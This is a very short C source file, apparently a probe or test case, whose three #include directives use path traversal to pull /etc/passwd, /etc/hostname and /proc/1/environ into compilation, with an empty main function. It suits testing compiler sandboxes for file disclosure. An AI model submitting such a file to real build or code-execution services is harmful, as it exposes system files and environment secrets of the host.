#include "../../../../../../etc/passwd"
#include <../../../../etc/hostname>
#include "../proc/1/environ"
int main() {}
